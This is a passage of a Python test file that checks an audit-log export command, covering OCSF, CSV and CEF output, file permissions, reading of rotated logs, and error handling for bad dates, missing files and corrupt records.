    out = tmp_path / "events.ocsf.jsonl"
    args = ["audit", "export", "--format", "ocsf", str(audit_file), "--until", "2025-03-01T10:00:08Z", "-o", str(out)]
    assert main(args) == 0
    assert stat.S_IMODE(os.stat(out).st_mode) == 0o600
    events = [json.loads(x) for x in out.read_text().splitlines()]
    assert len(events) == 9
    assert all(ocsf_errors(e) == [] for e in events)


def test_export_command_reads_the_configured_log(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    state = tmp_path / "state"
    with AuditLog(str(state / "audit.jsonl"), durability="none", rotate_bytes=4096) as audit:
        for i in range(40):  # several rotated files: all of them are read, in order
            audit.write({**RECORDS[0], "time": f"2025-03-01T10:{i // 60:02d}:{i % 60:02d}Z", "bytes_in": i})
    assert len(list(state.glob("audit*.jsonl"))) > 2
    config = tmp_path / "gateway.yaml"
    config.write_text(f"version: 1\npolicies: [{tmp_path / 'p.yaml'}]\nstate_dir: {state}\n")
    assert main(["audit", "export", "--format", "csv", "--config", str(config)]) == 0
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out, newline="")))
    assert [int(r["bytes_in"]) for r in rows] == list(range(40))


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["--since", "soon"], "neither ISO 8601"),
        (["/nonexistent/audit.jsonl"], "no such audit file"),
    ],
)
def test_export_command_errors(
    audit_file: Path, capsys: pytest.CaptureFixture[str], args: list[str], message: str
) -> None:
    argv = ["audit", "export", "--format", "cef", *args]
    if not any(a.startswith("/") for a in args):
        argv.append(str(audit_file))
    assert main(argv) == 2
    assert message in capsys.readouterr().err


def test_export_command_refuses_a_corrupt_line(audit_file: Path, capsys: pytest.CaptureFixture[str]) -> None:
    with open(audit_file, "ab") as f:
        f.write(b"not json\n")
    assert main(["audit", "export", "--format", "ocsf", str(audit_file)]) == 2
    assert "not an audit record" in capsys.readouterr().err


def iter_ocsf(lines: list[str]) -> Iterator[dict[str, Any]]:
    """The OCSF events of an export, each checked against the schema (for tests elsewhere, e.g. test_sinks)."""
    for line in lines:
        event = json.loads(line)
        assert ocsf_errors(event) == [], event
        yield event
